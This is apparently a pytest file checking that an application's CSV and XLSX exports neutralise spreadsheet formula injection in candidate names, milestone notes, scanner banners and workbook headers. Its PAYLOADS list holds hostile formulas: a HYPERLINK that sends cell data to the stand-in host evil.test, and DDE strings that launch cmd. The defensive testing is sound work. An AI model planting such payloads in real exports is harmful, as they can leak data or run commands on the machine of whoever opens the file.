"""Attack: text a user (or a scanned service's banner) controls starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return and runs as a formula when an instructor opens the export in
Excel or LibreOffice (issue 11.8). Every CSV and XLSX export goes through
``careops.core.spreadsheet``: such text gets a leading apostrophe, numbers stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from careops.core import spreadsheet
from tests.declarations import conftest as declarations

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

_media = declarations._media
version = declarations.version
people = declarations.people
evidence = declarations.evidence
validated = declarations.validated
declared = declarations.declared


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(p, "'" + p) for p in PAYLOADS],
        ("CH Alpha", "CH Alpha"),
        ("-12,5", "-12,5"),  # a plain number cannot be a formula
        ("+33", "+33"),
        ("", ""),
        (42, 42),
        (-3.5, -3.5),
        (Decimal("100000.00"), Decimal("100000.00")),
        (None, None),
    ],
)
def test_safe_cell_table(value, expected):
    assert spreadsheet.safe_cell(value) == expected
    assert spreadsheet.unescape_cell(spreadsheet.safe_cell(value)) == value


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_declaration_csv_and_xlsx_neutralise_a_hostile_candidate_name(declared, people):
    from careops.declarations import dashboards, exports, services

    candidate = declared.candidate
    candidate.name = PAYLOADS[0]
    candidate.save()
    data = exports.rows(services.visible(people.ars))
    rows = read_csv(exports.to_csv(data))
    assert rows[1][1] == "'" + PAYLOADS[0]
    book = load_workbook(io.BytesIO(exports.to_xlsx(data, dashboards.build(people.ars))))
    sheet = book["Candidatures"]
    assert sheet["B2"].value == "'" + PAYLOADS[0] and sheet["B2"].data_type == "s"
    assert sheet["K2"].value == 100000 and sheet["K2"].data_type == "n"  # ceiling: a number
    formulas = [
        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


def test_directory_csvs_neutralise_hostile_milestone_titles_and_notes(org_tree, make_user):
    from careops.directory import services
    from careops.directory.models import Domain

    rssi = make_user("ght_rssi", org_tree.ght)
    domain = services.save_domain(
        rssi, Domain(organisation=org_tree.ej_a, name="alpha.local", target_forest="ght.local")
    )
    services.add_milestone(
        rssi, org_tree.ght, PAYLOADS[1], dt.date(2030, 1, 1), domains=[domain], note=PAYLOADS[3]
    )
    data = services.convergence(rssi, org_tree.ght)
    milestones = read_csv(services.milestones_csv(data).decode())
    assert milestones[1][0] == "'" + PAYLOADS[1]
    assert milestones[1][5] == "'" + PAYLOADS[3]
    for row in read_csv(services.convergence_csv(data).decode())[1:]:
        assert not row[0].startswith(spreadsheet.FORMULA_STARTS)


def test_exposure_csv_neutralises_a_hostile_service_banner(org_tree):
    from careops.exposure import reports
    from careops.exposure.models import RunStatus, ScanRun

    finding = {
        "rule": "EXP-BANNER",
        "severity": "medium",
        "host": "192.0.2.10",
        "port": 21,
        "title": "Bannière",
        "evidence": PAYLOADS[3],  # what the scanned server chose to answer
        "remediation": PAYLOADS[2],
        "cves": [],
        "kev": False,
        "fingerprint": "EXP-BANNER|192.0.2.10|21|",
    }
    run = ScanRun.objects.create(
        organisation=org_tree.ej_a,
        status=RunStatus.DONE,
        result={"hosts": [{"address": "192.0.2.10"}], "findings": [finding]},
    )
    rows = read_csv(reports.to_csv(run))
    header = rows[0]
    line = dict(zip(header, rows[1], strict=True))
    assert line["constat"] == "'" + PAYLOADS[3]
    assert line["recommandation"] == "'" + PAYLOADS[2]
    assert line["port"] == "21"


def test_bia_workbook_neutralises_and_round_trips_hostile_names():
    from careops.continuity.engine.example import example_bia
    from careops.continuity.engine.workbook import RESOURCES, read_workbook, workbook_bytes

    bia = example_bia()
    bia.resources[0].name = PAYLOADS[0]
    bia.resources[0].contract = PAYLOADS[2]
    # a user-defined horizon label becomes a column header of the ratings sheet
    first = bia.method.horizons[0]
    renamed = dataclasses.replace(first, label="@4h")
    horizons = (renamed, *bia.method.horizons[1:])
    bia.method = dataclasses.replace(bia.method, horizons=horizons)
    for activity in bia.activities:
        for ratings in activity.ratings.values():
            if first.label in ratings:
                ratings["@4h"] = ratings.pop(first.label)
    data = workbook_bytes(bia)
    sheet = load_workbook(io.BytesIO(data))[RESOURCES]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + PAYLOADS[0] in {c.value for c in cells}
    back, problems = read_workbook(io.BytesIO(data))
    assert not problems
    assert back.resources[0].name == PAYLOADS[0]  # the import gives the user's text back
    assert back.resources[0].contract == PAYLOADS[2]
    assert back.method.horizons[0].label == "@4h"
    book = load_workbook(io.BytesIO(data))
    headers = [c for ws in book for c in ws[1] if isinstance(c.value, str)]
    assert "'@4h" in {c.value for c in headers} and all(c.data_type == "s" for c in headers)


def test_every_csv_writer_and_workbook_of_careops_goes_through_the_helper():
    """No export writes cells behind the helper's back (a new one must use it too)."""
    from pathlib import Path

    import careops

    root = Path(careops.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text("utf-8")
        if path.name == "spreadsheet.py":
            continue
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(f"{path.relative_to(root)}: csv.writer")
        if "Workbook()" in text and "append_row" not in text:
            offenders.append(f"{path.relative_to(root)}: Workbook without append_row")
    assert offenders == []
